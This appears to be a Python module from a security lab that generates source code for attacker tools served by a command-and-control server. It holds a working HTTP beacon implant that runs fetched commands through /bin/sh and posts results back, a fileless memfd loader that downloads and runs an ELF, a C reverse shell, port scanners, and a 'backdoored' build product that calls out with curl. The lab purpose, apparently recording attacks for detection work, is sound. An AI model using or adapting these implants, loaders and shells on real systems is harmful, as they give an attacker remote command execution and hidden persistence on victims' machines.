"""Source text of the attacker's tools: implants, loaders, scanners, a preload library.

The C2 server serves these (C sources compiled by the lab before recording starts). Every
tool is harmless by construction: it talks only to the addresses it is given (which the
runner checks with the containment guard), it ends itself after a bounded lifetime, and the
preload library does nothing at all when loaded.
"""

from __future__ import annotations

import json


def python_implant(*, beacon_url: str, result_url: str, interval: float, lifetime: int) -> str:
    """An HTTP beacon: fetch a task, run it with /bin/sh, post its exit status (first line)
    and output; ends after ``lifetime`` seconds or on the task ``exit``."""
    return f"""import subprocess, time, urllib.request
B = {json.dumps(beacon_url)}
R = {json.dumps(result_url)}
end = time.time() + {lifetime}
while time.time() < end:
    try:
        with urllib.request.urlopen(B, timeout=5) as reply:
            body = reply.read().decode()
    except Exception:
        body = ""
    if body:
        tid, _, cmd = body.partition("\\n")
        if cmd.strip() == "exit":
            break
        try:
            done = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True, timeout=40)
            out = b"%d\\n" % done.returncode + done.stdout + done.stderr
        except Exception as error:
            out = b"255\\n" + repr(error).encode()
        try:
            urllib.request.urlopen(urllib.request.Request(R + "/" + tid, data=out), timeout=5)
        except Exception:
            pass
        continue
    time.sleep({interval:.2f})
"""


def memfd_loader(*, url: str, name: str) -> str:
    """Python that fetches an ELF into an anonymous memory file and executes it from there
    (nothing touches the disk)."""
    return f"""import os, urllib.request
data = urllib.request.urlopen({json.dumps(url)}, timeout=10).read()
fd = os.memfd_create({json.dumps(name)}, 0)
os.write(fd, data)
os.execv("/proc/self/fd/%d" % fd, [{json.dumps(name)}])
"""


def reverse_shell_c(*, address: str, port: int, lifetime: int) -> str:
    """C: connect back to ``address:port`` and hand the socket to /bin/sh. An alarm ends
    the shell after ``lifetime`` seconds (alarms survive exec)."""
    return f"""#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {{
    struct sockaddr_in peer = {{0}};
    peer.sin_family = AF_INET;
    peer.sin_port = htons({port});
    inet_pton(AF_INET, "{address}", &peer.sin_addr);
    for (int attempt = 0; attempt < 50; attempt++) {{
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&peer, sizeof peer) == 0) {{
            dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
            alarm({lifetime});
            execl("/bin/sh", "sh", (char *)0);
            return 1;
        }}
        close(fd);
        usleep(200000);
    }}
    return 1;
}}
"""


def port_scanner_c() -> str:
    """C: ``scanner TIMEOUT_MS HOST:PORT...``; prints ``HOST:PORT open`` for each open port."""
    return """#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int wait_ms = atoi(argv[1]);
    for (int i = 2; i < argc; i++) {
        char host[64]; int port = 0;
        if (sscanf(argv[i], "%63[^:]:%d", host, &port) != 2) continue;
        struct sockaddr_in peer = {0};
        peer.sin_family = AF_INET; peer.sin_port = htons(port);
        if (inet_pton(AF_INET, host, &peer.sin_addr) != 1) continue;
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        fcntl(fd, F_SETFL, O_NONBLOCK);
        connect(fd, (struct sockaddr *)&peer, sizeof peer);
        struct pollfd p = {fd, POLLOUT, 0};
        int error = 1; socklen_t size = sizeof error;
        if (poll(&p, 1, wait_ms) == 1) getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
        if (error == 0) printf("%s:%d open\\n", host, port);
        close(fd);
    }
    return 0;
}
"""


def port_scanner_py() -> str:
    """Python: ``scan.py HOSTS PORTS`` (comma separated); prints open ``host:port``."""
    return """import socket, sys
hosts = sys.argv[1].split(",")
ports = [int(p) for p in sys.argv[2].split(",")]
for host in hosts:
    for port in ports:
        s = socket.socket()
        s.settimeout(0.3)
        if s.connect_ex((host, port)) == 0:
            print(f"{host}:{port} open")
        s.close()
"""


def harmless_preload_c() -> str:
    """C for a shared library whose constructor does nothing: a real LD_PRELOAD entry that
    cannot break any program that loads it."""
    return """__attribute__((constructor)) static void lab_preload_init(void) { }
int lab_preload_marker(void) { return 0; }
"""


def backdoored_tool_c(*, beacon_url: str) -> str:
    """C for a 'tampered' build product: it does its job (prints a version) and also
    reaches out to ``beacon_url`` once with curl (the injected backdoor)."""
    return f"""#include <stdio.h>
#include <stdlib.h>
int main(void) {{
    puts("tool 1.4.2");
    return system("curl -s -m 3 -o /dev/null {beacon_url}") == 0 ? 0 : 0;
}}
"""
